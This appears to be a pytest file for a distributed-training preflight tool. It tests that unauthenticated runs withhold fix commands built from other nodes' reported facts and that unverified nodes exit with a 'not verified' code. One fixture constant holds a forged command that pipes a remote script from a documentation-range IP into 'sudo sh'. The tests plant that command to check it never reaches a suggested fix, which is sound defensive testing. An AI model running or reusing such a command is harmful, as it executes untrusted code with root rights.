"""Issue 33 part 1: an unauthenticated run shows no fix built from what came over the network, on the master
as on every other node; the document says which fixes were withheld and why; a node that could not verify
the master's verdict never exits 0 on it."""
from __future__ import annotations

from types import SimpleNamespace

from ddpdoctor.cluster import verdict
from ddpdoctor.exitcodes import ExitCode
from ddpdoctor.preflight import make_plan

CURL = "curl -s http://203.0.113.9/fix.sh | sudo sh; python3"


def _node(rank: int, name: str, exe: str, torch_error: str | None) -> dict:
    facts = {"python_version": "3.11.0", "python_implementation": "CPython", "python_executable": exe,
             "nvidia_driver_present": False, "torch_error": torch_error}
    if not torch_error:
        facts.update(torch_version="2.13.0", torch_build="cpu", gloo_available=True, nccl_available=False)
    return {"rank": rank, "host": name, "addr": f"10.0.0.{rank + 1}", "facts": {"torch-build": facts},
            "gather": {"torch-build": {"status": "ok"}}}


def _decide(withhold_why, master_broken=False):
    plan = make_plan(only=("torch-build",), run_flags={"nnodes": 2})
    merged = {"m": _node(0, "m", "/opt/py/bin/python3", "ImportError: no torch" if master_broken else None),
              "w": _node(1, "w", CURL, "ImportError: forged")}
    view = SimpleNamespace(nodes=[{"rank": 0, "name": "m"}, {"rank": 1, "name": "w"}])
    return verdict.decide(plan, {"nnodes": 2}, view, merged, {}, [], {}, lambda rs: [], withhold_why=withhold_why,
                          me="m")


def test_an_unauthenticated_master_withholds_a_fix_built_from_another_nodes_facts():
    doc = _decide(verdict.WITHHELD_OPEN)
    (bad,) = [r for r in doc["results"] if r["level"] == "fail"]
    assert bad["nodes"] == ["w"] and "torch does not import" in bad["summary"]  # the finding stays
    assert bad["fix"] == "" and "not authenticated" in bad["fix_withheld"]
    assert "curl" not in str(doc["results"]) + str(doc["groups"])
    (group,) = [g for g in doc["groups"] if g["level"] == "fail"]
    assert group["fix"] == ""


def test_the_masters_own_fix_stays_and_an_authenticated_run_shows_every_fix():
    doc = _decide(verdict.WITHHELD_OPEN, master_broken=True)
    by_node = {r["nodes"][0]: r for r in doc["results"] if r["level"] == "fail"}
    assert by_node["m"]["fix"].startswith("/opt/py/bin/python3 -m pip install torch")  # from its own facts alone
    assert "fix_withheld" not in by_node["m"] and by_node["w"]["fix"] == ""
    shown = _decide(None)
    (bad,) = [r for r in shown["results"] if r["level"] == "fail"]
    assert "fix_withheld" not in bad and "pip install torch" in bad["fix"]
    assert "'" + CURL + "'" in bad["fix"]  # an authenticated node's value, still one quoted word


def _received(exit_code=0) -> dict:
    return {"verdict": "pass", "exit_code": exit_code, "scope": "cluster", "nodes": {"a": {"rank": 0}},
            "advice": [], "results": [{"check": "mesh", "level": "warn", "summary": "s", "nodes": ["a"], "fix": CURL}]}


def test_a_node_that_cannot_verify_the_verdict_never_exits_0_on_it():
    plan = SimpleNamespace(checks=[])
    auth = {"authenticated": False, "mode": "none", "open_nodes": ["b"]}
    doc = verdict.worker_document(plan, {}, _received(), {}, "b", [], auth=auth, advice_fn=lambda rs: [],
                                  verified=False)
    assert doc["exit_code"] == ExitCode.NOT_VERIFIED == 5 and doc["auth"]["verdict_verified"] is False
    assert doc["results"][0]["fix"] == "" and "forgery" in doc["results"][0]["fix_withheld"]
    keyed = verdict.worker_document(plan, {}, _received(1), {}, "b", [], auth=auth, advice_fn=lambda rs: [])
    assert keyed["exit_code"] == 1 and keyed["auth"]["verdict_verified"] is True


def test_the_terminal_and_the_report_say_a_fix_was_withheld():
    import io

    from rich.console import Console

    from ddpdoctor.report import console as term
    from ddpdoctor.report.html import build_html

    doc = _decide(verdict.WITHHELD_OPEN)
    doc["auth"] = {"authenticated": False, "mode": "key", "open_nodes": ["w"], "note": "n", "fix": "f"}
    out = io.StringIO()
    term.render_preflight(doc, Console(file=out, width=200))
    assert "fix withheld: this run was not authenticated" in out.getvalue() and "curl" not in out.getvalue()
    html = build_html([dict(doc, kind="preflight")])
    assert "fix withheld:" in html and 'class="fix">curl' not in html  # the facts are data; no fix is built of them


def test_an_unverified_nodes_one_line_says_not_verified():
    import io

    from rich.console import Console

    from ddpdoctor.report import console as term

    auth = {"authenticated": False, "mode": "none", "open_nodes": ["b"], "note": "n", "fix": "f"}
    doc = verdict.worker_document(SimpleNamespace(checks=[]), {}, _received(), {}, "b", [], auth=auth,
                                  advice_fn=lambda rs: [], verified=False)
    out = io.StringIO()
    term.render_worker_line(doc, Console(file=out, width=300))
    text = out.getvalue()
    assert "NOT VERIFIED" in text and "exit 5" in text, text
